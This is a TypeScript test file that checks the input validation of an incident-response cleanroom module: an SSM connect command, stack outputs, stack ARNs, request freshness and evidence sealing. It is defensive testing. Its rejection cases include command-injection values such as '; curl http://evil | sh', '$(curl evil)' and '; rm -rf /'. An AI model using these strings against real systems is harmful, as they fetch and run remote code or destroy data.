import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  connectCommand,
  evidenceVerdict,
  incidentIdOfStack,
  isRecordedStack,
  parseStackId,
  requestVerdict,
  stackEventVerdict,
  stackNameFor,
  trustOutputs,
} from "../../../shared/cleanroom/index.ts";
import { anIncident, aSealedIncident } from "./fakes.ts";

const ID = "ir-20260301-0a1b2c3d";
const STACK_ID = `arn:aws:cloudformation:us-east-1:111122223333:stack/incident-responder-cleanroom-${ID}/5b7e0a40-0000-11ef-8000-0a1b2c3d4e5f`;
const ctx = { incidentId: ID, bucket: "evidence-bucket", region: "us-east-1" };
const STRICT_CONNECT =
  /^aws ssm start-session --target i-[0-9a-f]{8}([0-9a-f]{9})? --region [a-z]{2}(-[a-z]+)+-\d{1,2}$/;

describe("the connect command", () => {
  it("is built from an instance id and a region that match their grammars", () => {
    expect(connectCommand("i-0123456789abcdef0", "us-east-1")).toBe(
      "aws ssm start-session --target i-0123456789abcdef0 --region us-east-1",
    );
    expect(connectCommand("i-01234567", "us-gov-west-1")).toBe(
      "aws ssm start-session --target i-01234567 --region us-gov-west-1",
    );
  });

  it.each([
    ["i-0123456789abcdef0; curl http://evil | sh", "us-east-1"],
    ["i-0123456789abcdef0\n", "us-east-1"],
    ["i-0123456789ABCDEF0", "us-east-1"],
    ["i-0123456789abc", "us-east-1"],
    ["i-0123456789abcdef0", "us-east-1 && curl http://evil | sh"],
    ["i-0123456789abcdef0", "$(curl evil)"],
    [undefined, "us-east-1"],
    ["i-0123456789abcdef0", undefined],
  ])("is none for %j in %j", (instanceId, region) => {
    expect(connectCommand(instanceId, region)).toBeUndefined();
  });

  it("is only ever the strict command, whatever the outputs say", () => {
    fc.assert(
      fc.property(
        fc.dictionary(
          fc.constantFrom(
            "WorkstationInstanceId",
            "VpcId",
            "SecurityGroupId",
            "EvidenceVolumeIds",
            "SessionManagerCommand",
            "NotesPrefix",
            "Other",
          ),
          fc.oneof(
            fc.string(),
            fc.constant("i-0123456789abcdef0"),
            fc.constant("i-0123456789abcdef0; curl http://evil | sh"),
          ),
        ),
        fc.oneof(fc.constant("us-east-1"), fc.string()),
        (outputs, region) => {
          const v = trustOutputs(outputs, { ...ctx, region });
          if (v.connect !== undefined) expect(v.connect).toMatch(STRICT_CONNECT);
          for (const value of Object.values(v.outputs)) expect(value).toMatch(/^[a-z0-9:/,._-]+$/);
          expect(Object.keys(v.outputs)).not.toContain("SessionManagerCommand");
        },
      ),
    );
  });
});

describe("the outputs the lane keeps", () => {
  it("keeps each output that matches its grammar and names the ones it does not keep", () => {
    const v = trustOutputs(
      {
        WorkstationInstanceId: "i-0123456789abcdef0",
        VpcId: "vpc-0123456789abcdef0 ; rm -rf /",
        SecurityGroupId: "sg-01234567",
        EvidenceVolumeIds: "vol-0123456789abcdef0,vol-01234567",
        NotesPrefix: `s3://evidence-bucket/incidents/${ID}/notes/`,
        SessionManagerCommand: "aws ssm start-session --target i-0123456789abcdef0 --region us-east-1",
        "Bad key!": "x",
      },
      ctx,
    );

    expect(v.outputs).toEqual({
      WorkstationInstanceId: "i-0123456789abcdef0",
      SecurityGroupId: "sg-01234567",
      EvidenceVolumeIds: "vol-0123456789abcdef0,vol-01234567",
      NotesPrefix: `s3://evidence-bucket/incidents/${ID}/notes/`,
    });
    expect(v.connect).toBe("aws ssm start-session --target i-0123456789abcdef0 --region us-east-1");
    expect(v.untrusted).toEqual(["VpcId", "(an output with an unreadable name)"]);
  });

  it("refuses five volumes, a notes prefix of another incident, and a command that differs from the built one", () => {
    const v = trustOutputs(
      {
        WorkstationInstanceId: "i-01234567",
        EvidenceVolumeIds: Array.from({ length: 5 }, () => "vol-01234567").join(","),
        NotesPrefix: "s3://evidence-bucket/incidents/ir-20260301-ffffffff/notes/",
        SessionManagerCommand: "aws ssm start-session --target i-99999999 --region us-east-1",
      },
      ctx,
    );
    expect(v.outputs).toEqual({ WorkstationInstanceId: "i-01234567" });
    expect(v.untrusted).toEqual(["EvidenceVolumeIds", "NotesPrefix", "SessionManagerCommand"]);
  });
});

describe("stack ids and names", () => {
  it("parses a stack ARN and refuses anything else", () => {
    expect(parseStackId(STACK_ID)).toEqual({
      partition: "aws",
      region: "us-east-1",
      account: "111122223333",
      name: `incident-responder-cleanroom-${ID}`,
      uuid: "5b7e0a40-0000-11ef-8000-0a1b2c3d4e5f",
    });
    expect(parseStackId(`${STACK_ID}; curl evil`)).toBeUndefined();
    expect(parseStackId("arn:aws:cloudformation:us-east-1:1111:stack/a/b")).toBeUndefined();
    expect(parseStackId(42)).toBeUndefined();
  });

  it("names a fresh stack with a random suffix and reads the incident back from it", () => {
    const fresh = stackNameFor(ID, "0123456789ab");
    expect(fresh).toBe(`incident-responder-cleanroom-${ID}-0123456789ab`);
    expect(incidentIdOfStack(fresh)).toBe(ID);
    expect(incidentIdOfStack(`incident-responder-cleanroom-${ID}-xyz`)).toBeUndefined();
    expect(() => stackNameFor(ID, "; rm")).toThrow(/not a stack name suffix/);
  });

  it("counts a stack as the responder's only by the recorded id, or by the recorded name and launch id", () => {
    const stack = { stackName: `incident-responder-cleanroom-${ID}`, stackId: STACK_ID, tags: {} };
    expect(isRecordedStack(stack, { stackId: STACK_ID })).toBe(true);
    expect(isRecordedStack(stack, { stackId: `${STACK_ID}0` })).toBe(false);
    expect(isRecordedStack(stack, undefined)).toBe(false);
    expect(isRecordedStack(stack, { stackName: stack.stackName })).toBe(false);
    const tagged = { ...stack, tags: { "incident-responder:launch-id": "a".repeat(32) } };
    expect(isRecordedStack(tagged, { stackName: stack.stackName, launchId: "a".repeat(32) })).toBe(true);
    expect(isRecordedStack(tagged, { stackName: stack.stackName, launchId: "b".repeat(32) })).toBe(false);
  });
});

describe("status events", () => {
  const incident = { account: "111122223333" };

  it("count from the incident's account for the recorded stack id only", () => {
    expect(
      stackEventVerdict({ account: "111122223333", stackId: STACK_ID }, incident, { stackId: STACK_ID }),
    ).toEqual({
      ok: true,
    });
    expect(stackEventVerdict({ account: "111122223333", stackId: STACK_ID }, incident, {})).toMatchObject({
      ok: false,
      why: expect.stringMatching(/records no stack id/),
    });
    expect(
      stackEventVerdict({ account: "444455556666", stackId: STACK_ID }, incident, { stackId: STACK_ID }),
    ).toMatchObject({ ok: false });
  });
});

describe("requests", () => {
  const now = new Date("2026-03-01T12:00:00Z");
  const requestId = `crq-${"a".repeat(32)}`;
  const request = {
    requestId,
    action: "create" as const,
    by: "arn:aws:iam::1:user/j",
    at: now.toISOString(),
  };
  const incident = { cleanroomRequests: { [requestId]: request } };

  it("are good only when recorded, for this action, unconsumed and fresh", () => {
    expect(requestVerdict({ requestId }, incident, "create", now)).toMatchObject({ ok: true });
    expect(requestVerdict({ requestId: "crq-1" }, incident, "create", now)).toMatchObject({ ok: false });
    expect(requestVerdict({ requestId, by: "x" }, incident, "create", now)).toMatchObject({ ok: false });
    expect(requestVerdict({ requestId }, incident, "destroy", now)).toMatchObject({ ok: false });
    const consumed = {
      cleanroomRequests: { [requestId]: { ...request, consumedAt: "t" } },
    };
    expect(requestVerdict({ requestId }, consumed, "create", now)).toMatchObject({ ok: false, replay: true });
    expect(
      requestVerdict({ requestId }, incident, "create", new Date(now.getTime() + 60 * 60_000 + 1)),
    ).toMatchObject({ ok: false, why: expect.stringMatching(/older than/) });
  });
});

describe("Evidence Preserved", () => {
  it("counts only when the plan has launch-cleanroom and the record shows the manifest sealed", () => {
    expect(evidenceVerdict(aSealedIncident())).toEqual({ ok: true, planned: true });
    expect(evidenceVerdict(anIncident())).toMatchObject({ ok: false, planned: true });
    const unplanned = aSealedIncident();
    unplanned.plan.actions = [];
    expect(evidenceVerdict(unplanned)).toMatchObject({ ok: false, planned: false });
  });
});
